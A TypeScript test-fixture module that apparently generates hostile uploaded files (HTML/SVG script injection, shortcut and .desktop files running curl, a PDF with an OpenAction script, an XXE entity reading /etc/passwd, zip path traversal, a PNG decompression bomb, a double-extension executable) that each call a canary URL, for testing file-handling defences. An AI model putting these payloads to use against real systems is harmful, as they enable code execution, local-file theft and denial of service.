// Files that a stranger could send so that something runs, overwrites or swallows: when it is opened, shown in a folder, or only looked at.
import { deflateSync } from 'node:zlib';

export interface HostileArrival {
  /** As its guest calls it. */
  readonly name: string;
  /** As it is saved. */
  readonly saved: string;
  readonly body: Buffer;
}

const latin = (text: string) => Buffer.from(text, 'latin1');
const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const uint16le = (value: number) => Buffer.from([value & 255, value >> 8]);

/** APPNOTE.TXT of PKWARE, 4.3.7: local headers are enough for what reads an archive as a stream. */
const zip = (entries: readonly (readonly [name: string, body: string])[]) =>
  Buffer.concat(
    entries.map(([name, body]) =>
      Buffer.concat([
        latin('PK\u0003\u0004\u0014\0\0\0\0\0\0\0\0\0'),
        Buffer.alloc(4),
        uint16le(body.length),
        Buffer.alloc(2),
        uint16le(body.length),
        Buffer.alloc(2),
        uint16le(name.length),
        Buffer.alloc(2),
        latin(name + body),
      ]),
    ),
  );

const chunk = (type: string, data: Uint8Array) =>
  Buffer.concat([uint32(data.length), latin(type), data, Buffer.alloc(4)]);
/** Sixteen gigabytes of pixels in a kilobyte. */
const bomb = Buffer.concat([
  latin('\u0089PNG\r\n\u001a\n'),
  chunk('IHDR', Buffer.concat([uint32(65_535), uint32(65_535), Buffer.from([8, 6, 0, 0, 0])])),
  chunk('IDAT', deflateSync(Buffer.alloc(262_144))),
  chunk('IEND', Buffer.alloc(0)),
]);

/** `canary`: the address that each asks for when it runs or is followed. */
export function hostileArrivals(canary: string): readonly HostileArrival[] {
  const act = `fetch('${canary}')`;
  const script = `<script>${act}</script>`;
  const file = (name: string, body: string | Buffer, saved = name): HostileArrival => ({
    name,
    saved,
    body: typeof body === 'string' ? Buffer.from(body) : body,
  });
  return [
    file('page.html', `<!doctype html>${script}<img src="${canary}">`),
    file('drawing.svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}<image href="${canary}"/></svg>`),
    file('page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><head>${script}</head></html>`),
    file('bank.url', `[InternetShortcut]\r\nURL=${canary}\r\nIconFile=${canary}\r\n`, 'bank.url.download'),
    file('run.desktop', `[Desktop Entry]\nType=Application\nExec=curl ${canary}\n`, 'run.desktop.download'),
    file('Open me.command', `#!/bin/sh\ncurl ${canary}\n`),
    file('view.scf', `[Shell]\r\nIconFile=${canary}\r\n`, 'view.scf.download'),
    file(
      'paper.pdf',
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('${canary}'\\))>>>>endobj`,
    ),
    file(
      'letter.docm',
      zip([
        ['[Content_Types].xml', '<Types/>'],
        ['word/vbaProject.bin', canary],
      ]),
    ),
    file('polyglot.gif', `GIF89a=0;${act};//`),
    file(
      'archive.mhtml',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${script}\r\n--b--`,
    ),
    file(
      'photos.zip',
      zip([
        ['../../mine', 'overwritten'],
        ['/tmp/x', 'x'],
      ]),
    ),
    file('sw.js', `self.addEventListener('fetch',()=>0);${act}`),
    file(
      'data.xml',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${canary}"><!ENTITY f SYSTEM "file:///etc/passwd">]><x>&e;&f;</x>`,
    ),
    file('huge.png', bomb),
    file('font.woff2', latin('wOF2\0\u0001\0\0')),
    file(
      'photo.jpg',
      latin(`\u00ff\u00d8\u00ff\u00e1\0\u00ffExif\0\0MM\0*\u00ff\u00ff\u00ff\u00ff<script>${act}</script>`),
    ),
    file('../../nothing', '', 'nothing'),
    file('invoice.pdf.exe', latin('MZ\u0090\0')),
    file('picture.png', `<html>${script}</html>`),
  ];
}
